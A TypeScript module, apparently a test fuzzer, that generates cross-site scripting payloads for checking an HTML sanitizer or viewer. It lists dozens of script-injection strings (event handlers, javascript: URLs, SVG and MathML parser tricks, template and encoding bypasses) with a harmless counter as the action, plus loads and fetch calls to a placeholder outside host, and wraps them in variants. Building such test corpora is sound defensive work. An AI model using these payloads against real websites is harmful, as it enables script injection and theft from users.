const hit = 'window.fired++';

/** What has run in somebody's viewer before: markup, handlers, addresses, ends of scripts, templates, styles, parser tricks. */
const bases: readonly string[] = [
  `<script>${hit}</script>`,
  `<SCRIPT SRC=//outside.invalid/x.js></SCRIPT>`,
  `</script><script>${hit}</script>`,
  `</ScRiPt ><script >${hit}</script >`,
  `<!--<script>${hit}</script>`,
  `--><script>${hit}</script><!--`,
  `]]><script>${hit}</script>`,
  `<img src=x onerror=${hit}>`,
  `<img src=//outside.invalid/i.png>`,
  `"><img src=x onerror="${hit}">`,
  `' onmouseover='${hit}' autofocus onfocus='${hit}' x='`,
  `" autofocus onfocus="${hit}" tabindex="1" x="`,
  `<svg onload=${hit}>`,
  `<svg><script>${hit}</script></svg>`,
  `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
  `<svg><style><img src=x onerror=${hit}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${hit}>`,
  `<math href="javascript:${hit}">x</math>`,
  `<a href="javascript:${hit}">x</a>`,
  `javascript:${hit}`,
  `JaVa\tScRiPt:${hit}`,
  `data:text/html,<script>parent.fired++</script>`,
  `<iframe srcdoc="<script>parent.fired++</script>"></iframe>`,
  `<iframe src="javascript:parent.fired++"></iframe>`,
  `<object data="//outside.invalid/o"></object><embed src="//outside.invalid/e">`,
  `<link rel=stylesheet href=//outside.invalid/s.css>`,
  `<link rel=prefetch href=//outside.invalid/p><link rel=preconnect href=//outside.invalid>`,
  `<base href=//outside.invalid/>`,
  `<meta http-equiv=refresh content="0;url=//outside.invalid/m">`,
  `<style>@import '//outside.invalid/c.css';*{background:url(//outside.invalid/b)}</style>`,
  `</style><script>${hit}</script>`,
  `</title><script>${hit}</script>`,
  `</textarea></noscript></template><script>${hit}</script>`,
  `<template><script>${hit}</script></template>`,
  `<details open ontoggle=${hit}>x</details>`,
  `<video autoplay onloadstart=${hit}><source src=//outside.invalid/v onerror=${hit}></video>`,
  `<body onload=${hit}><form action=//outside.invalid/f><button autofocus onfocus=${hit}>`,
  `<input autofocus onfocus=${hit}>`,
  `<marquee onstart=${hit}>x</marquee>`,
  `<x contenteditable onfocus=${hit} autofocus tabindex=0>`,
  `<script type="application/json" id="trace">{}</script>`,
  `<div id="detail" role="tree"><button id="search" onclick=${hit}>`,
  `{{constructor.constructor('${hit}')()}}`,
  `\${${hit}}`,
  `<%= ${hit} %>#{${hit}}[[${hit}]]`,
  `\`+${hit}+\``,
  `';${hit};//`,
  `\\";${hit};//`,
  `\u2028${hit}\u2029`,
  `\u202e<img src=x onerror=${hit}>\u202c`,
  `\ud83d<script>${hit}</script>\ude00`,
  `\u0130<img src=x onerror=${hit}>\u0131`,
  `\uff1cscript\uff1e${hit}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${hit}+ADw-/script+AD4-`,
  `&lt;script&gt;${hit}&lt;/script&gt;&#60;img src=x onerror=${hit}&#62;`,
  `&quot; onfocus=&quot;${hit}&quot;`,
  `url(javascript:${hit})`,
  `expression(${hit}); background: url(//outside.invalid/u)`,
  `bad" style="background:url(//outside.invalid/t)" class="`,
  `__proto__`,
  `constructor`,
  `fetch('//outside.invalid/f');new Image().src='//outside.invalid/n';alert(1)`,
];

/** The same, come by other ways. */
const ways: readonly ((text: string) => string)[] = [
  (t) => t,
  (t) => `before ${t} after`,
  (t) => `"${t}"`,
  (t) => `{"a":"${t}"}`,
  (t) => `\n${t}\n`,
  (t) => `<b>${t}`,
  (t) => t.toUpperCase(),
  (t) => t.replaceAll(' ', '/'),
  (t) => `${'a'.repeat(3000)}${t}`,
  (t) => decodeURIComponent(encodeURIComponent(t.toWellFormed())).replaceAll('<', '<\u200b') + t,
];

/** As many as wanted; the first ones differ in kind, later ones in how they come. */
export function payloads(count: number): string[] {
  const at = (i: number): string => {
    const base = bases[i % bases.length] ?? '';
    const round = Math.floor(i / bases.length);
    const first = ways[round % ways.length] ?? ((t: string) => t);
    const then = ways[Math.floor(round / ways.length) % ways.length] ?? ((t: string) => t);
    return then(first(base));
  };
  return Array.from({ length: count }, (_, i) => at(i));
}
